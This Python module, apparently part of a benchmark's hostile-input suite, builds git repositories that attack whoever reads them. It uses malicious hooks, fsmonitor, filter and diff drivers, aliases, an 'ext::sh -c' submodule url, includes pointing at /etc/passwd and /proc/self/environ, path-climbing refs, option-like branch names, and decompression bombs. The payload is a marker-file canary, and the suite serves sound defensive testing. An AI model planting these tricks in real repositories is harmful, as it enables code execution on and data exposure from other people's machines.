"""Git as a weapon: everything in a repository that makes git run a program, follow a path or eat memory."""

import hashlib
import os
import shutil
import struct
import subprocess
import zlib
from pathlib import Path

from hostile.ground import WORKSPACE, commit, git, honest, play

GIT = WORKSPACE / ".git"
PWN = "touch /tmp/copperbench-pwned /var/tmp/copperbench-pwned; echo pwned >> $HOME/copperbench-pwned"
"""What a payload does wherever it runs: the suite looks for the file on the host."""
HOOKS = (
    "applypatch-msg",
    "commit-msg",
    "fsmonitor-watchman",
    "post-applypatch",
    "post-checkout",
    "post-commit",
    "post-index-change",
    "post-merge",
    "post-receive",
    "post-rewrite",
    "post-update",
    "pre-applypatch",
    "pre-auto-gc",
    "pre-commit",
    "pre-merge-commit",
    "pre-push",
    "pre-rebase",
    "pre-receive",
    "prepare-commit-msg",
    "proc-receive",
    "push-to-checkout",
    "reference-transaction",
    "sendemail-validate",
    "update",
)


def _program(name: str) -> str:
    path = GIT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\n{PWN}\n")
    path.chmod(0o755)
    return str(path)


def _configure(text: str) -> None:
    with (GIT / "config").open("a") as file:
        file.write(text)


def hooks() -> None:
    """Every hook that git knows."""
    honest()
    for name in HOOKS:
        _program(f"hooks/{name}")
    _configure("[core]\n\thooksPath = .git/hooks\n")


def fsmonitor() -> None:
    """A monitor that git asks before it looks at a file."""
    honest()
    _configure(f"[core]\n\tfsmonitor = {_program('monitor')}\n\tfsmonitorHookVersion = 2\n")


def external_diff() -> None:
    """A diff program, and text conversion by attribute."""
    honest()
    tool = _program("differ")
    _configure(f'[diff]\n\texternal = {tool}\n[diff "x"]\n\ttextconv = {tool}\n\tcommand = {tool}\n')
    (GIT / "info/attributes").write_text("* diff=x\n")


def filters() -> None:
    """Filters by attribute: clean, smudge, process, merge drivers."""
    honest()
    tool = _program("filter")
    _configure(f'[filter "x"]\n\tclean = {tool}\n\tsmudge = {tool}\n\tprocess = {tool}\n\trequired = true\n')
    _configure(f'[merge "x"]\n\tdriver = {tool} %A\n')
    (GIT / "info/attributes").write_text("* filter=x merge=x\n")


def pager_and_helpers() -> None:
    """Every other program that configuration can name."""
    honest()
    tool = _program("helper")
    core = "".join(f"\t{key} = {tool}\n" for key in ("pager", "editor", "sshCommand", "askPass", "gitProxy"))
    _configure(f"[core]\n{core}[credential]\n\thelper = {tool}\n[gpg]\n\tprogram = {tool}\n")
    _configure(f"[sequence]\n\teditor = {tool}\n[uploadpack]\n\tpackObjectsHook = {tool}\n")
    _configure("[log]\n\tshowSignature = true\n")


def include_paths() -> None:
    """Configuration taken from elsewhere on the reader's disk."""
    honest()
    _configure("[include]\n\tpath = /etc/passwd\n\tpath = ../../../evil\n\tpath = ~/evil\n")
    _configure('[includeIf "gitdir:/**"]\n\tpath = /proc/self/environ\n')


def aliases() -> None:
    """Aliases for git's own commands."""
    honest()
    names = ("rev-list", "merge-base", "index-pack", "init", "log", "status", "cat-file", "fast-import")
    _configure("[alias]\n" + "".join(f"\t{name} = !{PWN}\n" for name in names))


def other_worktree() -> None:
    """Configuration that moves the work tree and the hooks, and an extension that reads a second file."""
    honest()
    _configure("[extensions]\n\tworktreeConfig = true\n[core]\n\tworktree = /\n\thooksPath = /tmp\n")
    (GIT / "config.worktree").write_text("[core]\n\tworktree = /etc\n")
    (GIT / "commondir").write_text("/etc\n")


def git_file_elsewhere() -> None:
    """``.git`` a file that names a repository elsewhere."""
    honest()
    shutil.move(GIT, "/tmp/real")
    GIT.write_text("gitdir: /tmp/real\n")


def git_symlink() -> None:
    """``.git`` a link."""
    honest()
    shutil.move(GIT, "/tmp/real")
    GIT.symlink_to("/proc/self/cwd")


def alternates_to_the_host() -> None:
    """Object stores on the reader's disk."""
    honest()
    (GIT / "objects/info/alternates").write_text("/\n/etc\n../../../../results/evidence.git/objects\n")


def objects_elsewhere() -> None:
    """The objects themselves moved to where only the sandbox has them."""
    honest()
    shutil.copytree(GIT / "objects", "/tmp/objects")
    for folder in (GIT / "objects").iterdir():
        if len(folder.name) == 2:
            shutil.rmtree(folder)
    (GIT / "objects/info/alternates").write_text("/tmp/objects\n")


def submodules() -> None:
    """A submodule whose address is a command and whose path climbs."""
    honest()
    (WORKSPACE / ".gitmodules").write_text(
        f'[submodule "x"]\n\tpath = ../x\n\turl = ext::sh -c "{PWN}"\n\tupdate = !{PWN}\n'
        '[submodule "../../hooks"]\n\tpath = hardware/sub\n\turl = -u./payload\n'
    )
    git("update-index", "--add", "--cacheinfo", f"160000,{git('rev-parse', 'HEAD').strip()},hardware/sub")
    (WORKSPACE / "hardware/sub").mkdir()
    (WORKSPACE / "hardware/sub/.git").write_text("gitdir: /etc\n")


def bare_repository_below() -> None:
    """A bare repository in a folder: git that starts there takes its configuration."""
    honest()
    below = WORKSPACE / "hardware/below"
    subprocess.run(["git", "init", "-q", "--bare", str(below)], check=True)
    (below / "config").write_text(f'[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "{PWN}"\n')


def disguised_git_folders() -> None:
    """Folders that some file system or some git takes for ``.git``."""
    honest()
    for name in (
        ".GIT",
        "git~1",
        ".git ",
        ".g\u200cit",
        ".git::$INDEX_ALLOCATION",
        "docs/.git",
        ".gitattributes",
    ):
        folder = WORKSPACE / name
        folder.mkdir()
        (folder / "config").write_text(f'[core]\n\tfsmonitor = "{PWN}"\n')


def head_climbs() -> None:
    """HEAD names a file outside of the repository."""
    honest()
    (GIT / "HEAD").write_text("ref: ../../../../etc/passwd\n")


def refs_as_options() -> None:
    """Branch names that read as options, and HEAD on one."""
    honest()
    head = git("rev-parse", "HEAD")
    for name in ("--output=copperbench-pwned", "--upload-pack=x", "-h"):
        (GIT / "refs/heads" / name).write_text(head)
    (GIT / "HEAD").write_text("ref: refs/heads/--output=copperbench-pwned\n")


def index_damaged() -> None:
    """No index to read, and a lock that nobody gives back."""
    honest()
    (GIT / "index").write_bytes(os.urandom(4096))
    (GIT / "index.lock").write_bytes(b"")
    (GIT / "HEAD.lock").write_bytes(b"")


def packed_refs_flood() -> None:
    """Forty megabytes of names."""
    honest()
    head = git("rev-parse", "HEAD").strip()
    with (GIT / "packed-refs").open("w") as file:
        for number in range(600_000):
            file.write(f"{head} refs/heads/b{number:012}\n")


def commit_flood() -> None:
    """More commits than anybody counts."""
    play(commits=0)
    git("add", "-A")
    git("commit", "-q", "-m", "work")
    parent = git("rev-parse", "HEAD").strip()
    stream = []
    for number in range(3000):
        stream.append(
            f"commit refs/heads/main\nmark :{number + 1}\ncommitter h <h@h> {number} +0000\ndata 0\n"
        )
        stream.append(f"from {parent if number == 0 else f':{number}'}\n\n")
    subprocess.run(
        ["git", "fast-import", "--quiet", "--force"],
        cwd=WORKSPACE,
        input="".join(stream).encode(),
        check=True,
    )


def _object(kind: str, body: bytes) -> str:
    """Write a loose object by hand, whatever it says; returns its id."""
    data = f"{kind} {len(body)}\0".encode() + body
    name = hashlib.sha1(data).hexdigest()
    path = GIT / "objects" / name[:2] / name[2:]
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(zlib.compress(data))
    return name


def object_damaged() -> None:
    """Objects that are none, beside an honest commit."""
    honest()
    for number, data in enumerate((b"garbage", b"", zlib.compress(b"blob xyz\0hello"))):
        path = GIT / "objects/aa" / f"{number:038x}"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)


def commit_without_a_tree() -> None:
    """A commit on top of the baseline whose tree nobody made; the edits are in no commit."""
    play(commits=0)
    parent = git("rev-parse", "HEAD").strip()
    person = "h <h@h.invalid> 0 +0000"
    head = _object(
        "commit",
        f"tree {'1' * 40}\nparent {parent}\nauthor {person}\ncommitter {person}\n\nwork\n".encode(),
    )
    (GIT / "refs/heads/main").write_text(f"{head}\n")


def delta_bombs() -> None:
    """Forty small packs, each of which takes git some time: objects that are copies of a big one."""
    honest()
    size = 0xFFFFFF
    base = bytes(size)
    name = hashlib.sha1(f"blob {size}\0".encode() + base).digest()
    squeezed = zlib.compress(base, 9)
    for number in range(40):
        # A delta that copies all of the base and adds the pack's number.
        delta = _varint(size) + _varint(size + 1) + b"\xf0\xff\xff\xff" + bytes([1, number])
        entries = _entry(3, size) + squeezed + _entry(7, len(delta)) + name + zlib.compress(delta)
        pack = b"PACK" + struct.pack(">II", 2, 2) + entries
        (GIT / "objects/pack" / f"pack-{number:040x}.pack").write_bytes(pack + hashlib.sha1(pack).digest())


def _entry(kind: int, size: int) -> bytes:
    """The head of a pack's entry."""
    return bytes([0x80 | kind << 4 | size & 15]) + _varint(size >> 4)


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def object_bomb() -> None:
    """A commit that inflates to a gigabyte."""
    play(commits=0)
    size = 2**30
    header = b"commit %d\0tree %s\n" % (size, b"0" * 40)
    squeeze = zlib.compressobj(1)
    block = b"\0" * 2**20
    data = squeeze.compress(header) + b"".join(squeeze.compress(block) for _ in range(1024)) + squeeze.flush()
    name = hashlib.sha1(header).hexdigest()
    path = GIT / "objects" / name[:2] / name[2:]
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)
    (GIT / "refs/heads/main").write_text(f"{name}\n")


def pack_damaged() -> None:
    """A pack that is none, under a name that is one."""
    honest()
    Path(GIT / "objects/pack" / f"pack-{'a' * 40}.pack").write_bytes(
        b"PACK\0\0\0\2\xff\xff\xff\xff" + os.urandom(9000)
    )


def objects_on_a_side_branch() -> None:
    """Three hundred files on another branch, gone from the work tree: held against nobody."""
    honest()
    git("checkout", "-q", "-b", "side")
    for number in range(300):
        (WORKSPACE / f"docs/{number}.txt").write_text(f"{number}\n" * 100)
    commit("files")
    git("checkout", "-q", "main")
